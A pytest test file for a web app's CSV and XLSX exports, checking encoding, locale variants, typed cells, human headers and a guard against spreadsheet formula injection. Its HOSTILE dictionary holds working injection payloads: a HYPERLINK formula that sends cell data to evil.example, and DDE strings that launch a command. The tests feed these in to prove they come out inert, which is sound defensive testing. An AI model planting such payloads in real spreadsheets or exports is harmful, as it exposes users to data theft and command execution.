"""Exports people can use (issue 13, item 4): CSV with a BOM that Excel reads as UTF-8, the semicolon
variant for a Dutch locale, XLSX with typed numbers, human headers, and the OWASP formula guard for every
leading character, in CSV and XLSX, on a table built from imported data through the real app.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from importlib import resources
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reaimhub.i18n import in_locale
from reaimhub.services.coalition_imports import load_instruments
from reaimhub.services.position_imports import import_positions
from reaimhub.spreadsheets import FORMULA_START, csv_bytes, guard, xlsx_bytes
from reaimhub.web import create_app
from reaimhub.web.column_labels import COLUMN_LABELS
from reaimhub.web.exports import Table
from tests.conftest import database_for, make_hub
from tests.web.conftest import Client, web_engine

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("start", FORMULA_START)
def test_the_guard_neutralises_every_leading_character(start: str) -> None:
    assert set(HOSTILE) == set(FORMULA_START)
    text = HOSTILE[start]
    assert guard(text) == "'" + text
    rows = [{"cell": text, "number": -2}]
    for data, delimiter in (
        (csv_bytes(("cell", "number"), rows), ","),
        (csv_bytes(("cell", "number"), rows, semicolon=True), ";"),
    ):
        _, row = read_csv(data, delimiter)
        assert row == ["'" + text, "-2"], "text is guarded; a number the table holds stays a number"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(("cell", "number"), rows, title="t"))).worksheets[0]
    cell, number = sheet["A2"], sheet["B2"]
    assert cell.value == text and cell.data_type == "s", "never a formula in XLSX: text as it is"
    assert cell.quotePrefix, "Excel's quote prefix: the text stays text when the cell is edited"
    assert number.value == -2 and number.data_type == "n"


def test_plain_text_numbers_and_dates_keep_their_type() -> None:
    rows = [{"a": "Türkiye", "b": 0.45, "c": 12, "d": "2024-11-27", "e": "-2", "f": None, "g": ["x", "y"]}]
    cols = ("a", "b", "c", "d", "e", "f", "g")
    assert read_csv(csv_bytes(cols, rows))[1] == ["Türkiye", "0.45", "12", "2024-11-27", "'-2", "", "x; y"]
    assert read_csv(csv_bytes(cols, rows, semicolon=True), ";")[1][:3] == ["Türkiye", "0,45", "12"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(cols, rows, title="t"))).worksheets[0]
    values = [c.value for c in sheet[2]]
    assert values[:3] == ["Türkiye", 0.45, 12] and values[3].date().isoformat() == "2024-11-27"
    assert values[4] == "-2" and sheet["E2"].data_type == "s" and sheet["E2"].quotePrefix
    assert values[5] is None and values[6] == "x; y" and not sheet["A2"].quotePrefix
    # XML cannot hold every control character: replaced, never a server error
    assert (
        load_workbook(io.BytesIO(xlsx_bytes(("a",), [{"a": "a\x01b"}], title="t"))).worksheets[0]["A2"].value
        == "a\ufffdb"
    )


def test_headers_are_human_translatable_and_json_keeps_the_ids() -> None:
    table = Table(
        "positions",
        "Positions",
        ("iso3", "name", "instrument_id", "instrument", "label", "as_of", "source", "matrix_col"),
        [{"iso3": "TUR", "name": "Türkiye", "as_of": "2024-11-27", "source": "=evil()"}],
        "2024-11-27",
        labels={"matrix_col": "REAIM 2023 Call to Action (reaim-2023-call-to-action)"},
    )
    header = read_csv(table.as_csv())[0]
    assert header == [
        "ISO3 code",
        "State",
        "Instrument id",
        "Instrument",
        "Position",
        "As of",
        "Source",
        "REAIM 2023 Call to Action (reaim-2023-call-to-action)",
    ]
    assert table.as_json()["columns"][:2] == ["iso3", "name"]
    assert read_csv(table.as_csv())[1][6] == "'=evil()"
    with in_locale("nl"):  # translated through the catalogue when it has the label; never the raw id
        dutch = read_csv(table.as_csv())[0]
    assert "iso3" not in dutch and "as_of" not in dutch
    about = load_workbook(io.BytesIO(table.as_xlsx())).worksheets[1]
    assert [r[0].value for r in about.iter_rows()][:2] == ["Title", "As of"]
    assert all("_" not in label for label in COLUMN_LABELS.values())


# --- through the app: a table built from an imported file ---------------------------------------------

INSTRUMENT = "A/C.1/79/L.43"
SOURCE = "https://press.un.org/en/2024/gadis3757.doc.htm (test row)"


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Client]:
    with database_for(web_engine(), tmp_path) as url:  # PostgreSQL in ./dev test's second pass
        hub = make_hub(tmp_path, url)
        try:
            data = resources.files("reaimhub").joinpath("data", "reaim", "instruments.csv").read_bytes()
            assert load_instruments(hub, data, "instruments.csv").status == "imported"
            rows = [
                "state,iso3,instrument_id,instrument,position,date,source",
                f"Türkiye,TUR,{INSTRUMENT},L.43,co-sponsor,2024-10-18,{SOURCE}",
                # sources written by whoever made the file: each must reach a spreadsheet inert
                *(
                    f"{name},{iso3},{INSTRUMENT},L.43,co-sponsor,2024-10-18,{quoted(HOSTILE[c])}"
                    for c, (name, iso3) in zip(
                        ("=", "+", "-", "@"),
                        [("Netherlands", "NLD"), ("Spain", "ESP"), ("Chile", "CHL"), ("Peru", "PER")],
                        strict=True,
                    )
                ),
            ]
            report = import_positions(hub, ("\n".join(rows) + "\n").encode(), "hostile.csv")
            assert report.status == "imported", [str(p) for p in report.problems]
            client = Client(create_app(hub))
            try:
                yield client
            finally:
                client.close()
        finally:
            hub.close()


def test_positions_download_as_excel_would_open_it(site: Client) -> None:
    base = f"/instruments/{INSTRUMENT}/positions"
    plain = site.get(base + ".csv")
    assert plain.status_code == 200 and plain.headers["content-type"].startswith("text/csv; charset=utf-8")
    rows = read_csv(plain.content)
    header, data = rows[0], rows[1:]
    assert {"State", "Instrument", "Position", "Source", "As of"} <= set(header)
    records = {r[header.index("ISO3 code")]: dict(zip(header, r, strict=True)) for r in data}
    assert records["TUR"]["State"] == "Türkiye" and records["TUR"]["Instrument"]
    for c, iso3 in zip(("=", "+", "-", "@"), ("NLD", "ESP", "CHL", "PER"), strict=True):
        assert records[iso3]["Source"] == "'" + HOSTILE[c], iso3

    nl = site.get(base + ".csv-nl")
    assert nl.headers["content-disposition"].endswith('-nl.csv"')
    nl_rows = read_csv(nl.content, ";")
    assert nl_rows[0] == header and sorted(map(tuple, nl_rows[1:])) == sorted(map(tuple, data))

    xlsx = site.get(base + ".xlsx")
    assert xlsx.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = list(sheet.iter_rows(values_only=True))
    assert list(cells[0]) == header and len(cells) == len(rows)
    sources = {row[header.index("ISO3 code")]: row[header.index("Source")] for row in cells[1:]}
    assert sources["CHL"] == HOSTILE["-"] and sources["TUR"] == SOURCE  # text as it is, in a text cell
    source_column = header.index("Source") + 1
    chl = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("ISO3 code")].value == "CHL")
    assert chl[source_column - 1].data_type == "s" and chl[source_column - 1].quotePrefix
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "no formula cell anywhere"

    states = read_csv(site.get("/states?format=csv").content)
    assert any("Türkiye" in row for row in states), "UTF-8 survives: no TÃ¼rkiye"
    assert site.get("/states?format=xml").status_code == 422
